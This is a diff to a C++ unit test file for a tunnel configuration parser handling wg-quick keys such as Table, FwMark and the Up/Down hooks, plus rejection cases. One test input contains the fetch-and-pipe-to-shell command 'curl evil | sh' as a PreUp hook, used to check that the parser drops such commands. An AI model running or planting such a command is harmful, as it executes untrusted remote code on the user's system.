@@ -131,6 +131,41 @@ TEST(TunnelConfigurationTest, Acceptances) {
 }
 
 // Inputs that must be refused, with the exact description.
+TEST(TunnelConfigurationTest, WgQuickInterfaceKeys) {
+  auto parsed = TunnelConfiguration::FromWgQuickConfig(
+      Iface("Table = 1234\nFwMark = 0xCA6C\nPreUp = curl evil | sh\nPostUp = a\nPostUp = b\n"
+            "PreDown = c\nPostDown = d\nSaveConfig = true\n") +
+      Peer(kPub1));
+  ASSERT_TRUE(parsed) << parsed.error().description();
+  EXPECT_EQ(parsed->interface.table, 1234u);
+  EXPECT_EQ(parsed->interface.fwmark, 51820u);
+  // Named with their line for a warning; the commands themselves are not kept.
+  EXPECT_EQ(parsed->ignored.lines,
+            (std::vector<std::string>{"PreUp (line 5)", "PostUp (line 6)", "PostUp (line 7)",
+                                      "PreDown (line 8)", "PostDown (line 9)",
+                                      "SaveConfig (line 10)"}));
+  auto again = TunnelConfiguration::FromWgQuickConfig(parsed->ToWgQuickConfig());
+  ASSERT_TRUE(again);
+  EXPECT_EQ(*again, *parsed);
+  EXPECT_TRUE(again->ignored.lines.empty()) << "rendering never writes the commands back";
+
+  auto off = TunnelConfiguration::FromWgQuickConfig(Iface("Table = off\nFwMark = off\n"));
+  ASSERT_TRUE(off);
+  EXPECT_TRUE(off->interface.table_off);
+  EXPECT_EQ(off->interface.fwmark, std::nullopt);
+  auto round = TunnelConfiguration::FromWgQuickConfig(off->ToWgQuickConfig());
+  ASSERT_TRUE(round);
+  EXPECT_TRUE(round->interface.table_off);
+  auto named = TunnelConfiguration::FromWgQuickConfig(Iface("Table = Main\nFwMark = 0\n"));
+  ASSERT_TRUE(named);
+  EXPECT_EQ(named->interface.table, 254u);
+  EXPECT_EQ(named->interface.fwmark, std::nullopt);
+  auto automatic = TunnelConfiguration::FromWgQuickConfig(Iface("Table = auto\n"));
+  ASSERT_TRUE(automatic);
+  EXPECT_EQ(automatic->interface.table, std::nullopt);
+  EXPECT_FALSE(automatic->interface.table_off);
+}
+
 TEST(TunnelConfigurationTest, Rejections) {
   struct Case {
     std::string text;
@@ -149,7 +184,16 @@ TEST(TunnelConfigurationTest, Rejections) {
       {Iface() + "[Peer\n", "Invalid section header '[Peer' (line 3)", 3},
       {"Address = 10.0.0.1\n" + Iface(), "Field 'Address' outside of any section (line 1)", 1},
       {Iface("MTU 1420\n"), "Invalid line (line 3): expected a section header or 'Key = Value'", 3},
-      {Iface("Table = off\n"), "Unknown key 'Table' in [Interface] (line 3)", 3},
+      {Iface("Tabel = off\n"), "Unknown key 'Tabel' in [Interface] (line 3)", 3},
+      {Iface("Table = 0\n"),
+       "Invalid Table '0' in [Interface] (line 3): must be off, auto, main or a number", 3},
+      {Iface("Table = 4294967296\n"),
+       "Invalid Table '4294967296' in [Interface] (line 3): must be off, auto, main or a number",
+       3},
+      {Iface("FwMark = 0xg\n"),
+       "Invalid FwMark '0xg' in [Interface] (line 3): must be off or a number", 3},
+      {Iface("SaveConfig = true\nSaveConfig = false\n"),
+       "Duplicate SaveConfig in [Interface] (line 4)", 4},
       {Iface("PublicKey = x\n"), "PublicKey belongs in [Peer], not in [Interface] (line 3)", 3},
       {Iface() + Peer(kPub1, "MTU = 1420\n"), "MTU belongs in [Interface], not in [Peer] (line 5)",
        5},
